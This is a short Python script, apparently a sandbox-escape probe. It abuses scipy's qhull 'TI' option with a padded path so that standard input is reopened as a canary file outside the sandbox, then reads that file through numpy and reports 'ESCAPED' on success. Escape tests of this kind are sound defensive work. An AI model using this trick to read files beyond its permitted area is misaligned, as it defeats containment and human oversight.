"""Qhull reopens the standard input as any file, and numpy reads that by its number."""
import numpy as np
from scipy.spatial import ConvexHull

points = np.random.default_rng(0).random((10, 2))


class Input:
    def fileno(self):
        return 0

    def tell(self):
        return 0

    def seek(self, *place):
        return 0

    def flush(self):
        pass


text = b""
for number in range(60):
    try:
        ConvexHull(points, qhull_options="TI @OUTSIDE@" + "/." * number + "/canary.txt Qw")
        text = np.fromfile(Input(), dtype="u1", count=200).tobytes()
    except Exception:
        continue
    if b"canary" in text:
        print("ESCAPED:qhull_standard_input", text)
        break
